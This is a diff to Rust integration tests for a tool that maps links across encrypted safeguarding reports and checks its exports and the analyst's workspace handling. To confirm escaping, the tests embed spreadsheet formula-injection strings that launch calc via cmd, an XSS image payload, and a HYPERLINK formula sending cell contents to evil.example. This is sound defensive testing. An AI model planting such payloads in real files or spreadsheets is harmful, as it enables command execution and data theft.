@@ -75,7 +75,8 @@ fn synthetic() -> Vec<Value> {
             "CITY_OF_YORK",
             json!({"places": [{"street_or_landmark": "C2 place", "postcode": "yo17hh"}]}),
         ),
-        // A nickname shared by two children's reports.
+        // A nickname shared by two people in two reports: a possible link, not a merge (Sam is
+        // named, so "big t" is not only Tyler's).
         doc(
             "PIS-D001-0001",
             "professional",
@@ -255,7 +256,8 @@ fn planted_links_become_exactly_the_expected_clusters() {
         set(&["YX??KCD", "B1 place"]),
         set(&["YX21 KCD", "B2 place"]),
         set(&["YO1 7HH", "C1 place", "C2 place"]),
-        set(&["Tyler Reeve", "Big T", "D1 place", "Sam", "D2 place"]),
+        set(&["Tyler Reeve", "D1 place"]),
+        set(&["Sam", "D2 place"]),
         set(&["Kai Brown", "E1 place"]),
         set(&["Kai Brown", "E2 place"]),
         set(&["Jay", "F1 place"]),
@@ -270,7 +272,7 @@ fn planted_links_become_exactly_the_expected_clusters() {
     assert_eq!(clusters, expected);
     assert_eq!(
         g["clusters"][0].as_array().map(Vec::len),
-        Some(5),
+        Some(4),
         "largest first"
     );
 
@@ -298,6 +300,11 @@ fn planted_links_become_exactly_the_expected_clusters() {
                 "YX??KCD".to_string(),
                 "YX21 KCD".to_string(),
                 "partial plate matches this registration".to_string()
+            ),
+            (
+                "Tyler Reeve".to_string(),
+                "Sam".to_string(),
+                "same nickname".to_string()
             ),
         ]
         .into_iter()
@@ -376,7 +383,7 @@ fn planted_links_become_exactly_the_expected_clusters() {
             .into_iter()
             .collect()
     );
-    assert_eq!(data["possible"].as_array().map(Vec::len), Some(2));
+    assert_eq!(data["possible"].as_array().map(Vec::len), Some(3));
 
     let csv = std::fs::read_to_string(out.join("links.csv")).expect("csv");
     assert!(csv
@@ -392,12 +399,12 @@ fn planted_links_become_exactly_the_expected_clusters() {
     let mut lines = i2.lines();
     assert_eq!(
         lines.next(),
-        Some("entity1_type,entity1_identity,entity1_label,entity2_type,entity2_identity,entity2_label,link_type,link_label,date_from,date_to,references,marking")
+        Some("entity1_type,entity1_identity,entity1_label,entity2_type,entity2_identity,entity2_label,link_type,link_label,date_from,date_to,references,marking,entity1_note,entity2_note,link_note")
     );
     let rows: Vec<&str> = lines.collect();
     assert_eq!(
         rows.len(),
-        g["links"].as_array().map_or(0, Vec::len) + 2,
+        g["links"].as_array().map_or(0, Vec::len) + 3,
         "one row per link and possible link"
     );
     assert!(
@@ -422,7 +429,7 @@ fn planted_links_become_exactly_the_expected_clusters() {
     );
     assert_eq!(
         graphml.matches("<edge id=").count(),
-        g["links"].as_array().map_or(0, Vec::len) + 2
+        g["links"].as_array().map_or(0, Vec::len) + 3
     );
     assert!(graphml.contains("<data key=\"link\">possible</data><data key=\"reason\">partial plate matches this registration</data>"));
     assert!(graphml.trim_end().ends_with("</graph>\n</graphml>"));
@@ -561,7 +568,7 @@ fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst(
             {"role": "PERSON_POSING_RISK", "forename": xss, "aliases_nicknames": formula},
             {"role": "CHILD_AT_RISK", "forename": dot_break},
             {"role": "ASSOCIATE_OR_PEER", "forename": script_break}
-        ], "phones": [{"number": "+44 7700 900123"}], "locations": [place("@SUM(1+1)*cmd|' /C calc'!A0")]}),
+        ], "phones": [{"number": "+44 7700 900123"}], "locations": [place("@SUM(1+1)*cmd|' /C calc'!A0"), place(formula)]}),
     );
     std::fs::write(inputs.join("hostile.age"), seal(&hostile, &key)).expect("write");
     // The same reference sealed for a second route: one submission, not two.
@@ -719,6 +726,11 @@ fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst(
         "{graphml}"
     );
     assert!(graphml.contains("&lt;img src=x onerror=alert(1)&gt;"));
+    assert!(
+        // The nicknames (split at the comma) on their person, escaped.
+        graphml.contains("<data key=\"aliases\">&quot;click&quot;) =HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1</data>"),
+        "{graphml}"
+    );
 
     let dot = std::fs::read_to_string(out.join("map.dot")).expect("dot");
     assert!(
@@ -897,4 +909,154 @@ fn evidence_files_beside_their_reports_are_counted_from_the_report_not_refused()
     };
     assert_eq!(files_of("PIS-E001-0001"), Some(json!(2)));
     assert_eq!(files_of("PIS-E001-0002"), Some(json!(0)));
+}
+
+#[test]
+fn the_analysts_workspace_is_kept_0600_and_its_merge_survives_new_reports() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let key = age::x25519::Identity::generate();
+    let key_file = dir.path().join("analyst.key");
+    std::fs::write(&key_file, format!("{}\n", key.to_string().expose_secret())).expect("key");
+    let inputs = dir.path().join("in");
+    std::fs::create_dir_all(&inputs).expect("dir");
+    let write = |d: &Value| {
+        let reference = d["reference"].as_str().expect("reference");
+        std::fs::write(inputs.join(format!("{reference}.age")), seal(d, &key)).expect("age");
+    };
+    for d in synthetic() {
+        write(&d);
+    }
+    let ws = dir.path().join("workspace.json");
+    let out = dir.path().join("out");
+    // A new workspace is created, the analyst's own.
+    let (ok, stderr) = run_map(
+        dir.path(),
+        &key_file,
+        &out,
+        &["--workspace", ws.to_str().expect("utf-8")],
+        &inputs,
+    );
+    assert!(ok, "{stderr}");
+    assert_eq!(mode(&ws), 0o600);
+    let data = page_data(&std::fs::read_to_string(out.join("map.html")).expect("html"));
+    assert_eq!(data["workspace"]["decisions"], json!([]));
+
+    // The analyst decides the two Kai Browns are one (as the page's export writes it), in a
+    // file others could read.
+    let hostile = "=cmd|' /C calc'!A0 <b>bold</b>";
+    let decided = json!({"marking": "OFFICIAL-SENSITIVE", "version": 1, "decisions": [
+        {"action": "merge", "members": ["person:kai brown|2009-01-01", "person:kai brown|2009-02-02"]}
+    ], "notes": [
+        {"about": ["person:kai brown|2009-02-02"], "text": hostile},
+        {"about": ["person:kai brown|2009-01-01", "place:street:craven:e1 place"], "text": "met there twice"}
+    ]});
+    std::fs::write(&ws, decided.to_string()).expect("write");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&ws, std::fs::Permissions::from_mode(0o644)).expect("chmod");
+    }
+    // A new report names Kai Brown with the second date of birth.
+    write(&doc(
+        "PIS-E001-0003",
+        "professional",
+        20,
+        "CRAVEN",
+        json!({"people": [{"role": "CHILD_AT_RISK", "forename": "Kai", "surname": "Brown", "dob": "2009-02-02"}], "locations": [place("E3 place")]}),
+    ));
+    let (ok, stderr) = run_map(
+        dir.path(),
+        &key_file,
+        &out,
+        &[
+            "--workspace",
+            ws.to_str().expect("utf-8"),
+            "--locality",
+            "craven",
+        ],
+        &inputs,
+    );
+    assert!(ok, "{stderr}");
+    assert!(stderr.contains("1 merges applied"), "{stderr}");
+    assert_eq!(mode(&ws), 0o600, "written back 0600");
+    let kept: Value = serde_json::from_slice(&std::fs::read(&ws).expect("ws")).expect("json");
+    assert_eq!(kept["decisions"], decided["decisions"]);
+    assert_eq!(kept["notes"], decided["notes"]);
+    let map: Value =
+        serde_json::from_slice(&std::fs::read(out.join("map.json")).expect("json")).expect("json");
+    let kais: Vec<&Value> = map["map"]["entities"]
+        .as_array()
+        .expect("entities")
+        .iter()
+        .filter(|e| e["label"] == "Kai Brown")
+        .collect();
+    assert_eq!(kais.len(), 1, "one Kai Brown: {kais:?}");
+    let refs: BTreeSet<&str> = kais[0]["references"]
+        .as_array()
+        .expect("refs")
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    assert_eq!(
+        refs,
+        ["PIS-E001-0001", "PIS-E001-0002", "PIS-E001-0003"]
+            .into_iter()
+            .collect()
+    );
+    assert_eq!(
+        kais[0]["evidence"],
+        json!(["merged by the analyst (workspace)"])
+    );
+    // The notes go with the merged person and the link into every export.
+    assert_eq!(kais[0]["notes"], json!([hostile]));
+    let kai = kais[0]["id"].as_u64().expect("id");
+    let noted: Vec<&Value> = map["map"]["links"]
+        .as_array()
+        .expect("links")
+        .iter()
+        .filter(|l| l["notes"] == json!(["met there twice"]))
+        .collect();
+    assert_eq!(noted.len(), 1);
+    assert!(noted[0]["source"] == kai || noted[0]["target"] == kai);
+    let i2 = std::fs::read_to_string(out.join("i2.csv")).expect("i2");
+    assert!(
+        i2.lines().any(
+            |l| l.starts_with("\"Person\",\"person:kai brown|2009-01-01\"")
+                && l.ends_with(",\"'=cmd|' /C calc'!A0 <b>bold</b>\",\"\",\"met there twice\"")
+        ),
+        "{i2}"
+    );
+    let graphml = std::fs::read_to_string(out.join("map.graphml")).expect("graphml");
+    assert!(graphml.contains(
+        "<data key=\"note\">=cmd|&apos; /C calc&apos;!A0 &lt;b&gt;bold&lt;/b&gt;</data>"
+    ));
+    assert!(graphml.contains("<data key=\"note\">met there twice</data></edge>"));
+    let pack = std::fs::read_to_string(out.join("level2-CRAVEN.html")).expect("pack");
+    let notes = section(&pack, "Analyst's notes");
+    assert!(
+        notes.contains(
+            "<td>Kai Brown (person)</td><td>=cmd|&#39; /C calc&#39;!A0 &lt;b&gt;bold&lt;/b&gt;</td>"
+        ),
+        "{notes}"
+    );
+    assert!(notes.contains("met there twice"), "{notes}");
+    assert!(
+        map["map"]["possible_links"]
+            .as_array()
+            .expect("possible")
+            .iter()
+            .all(|p| p["reason"] != "same name, different date of birth"),
+        "merged, so no longer only possible"
+    );
+
+    // Not a workspace: refused by name before anything is read.
+    std::fs::write(&ws, b"[1, 2, 3]").expect("write");
+    let (ok, stderr) = run_map(
+        dir.path(),
+        &key_file,
+        &out,
+        &["--workspace", ws.to_str().expect("utf-8")],
+        &inputs,
+    );
+    assert!(!ok && stderr.contains("is not a map workspace"), "{stderr}");
 }
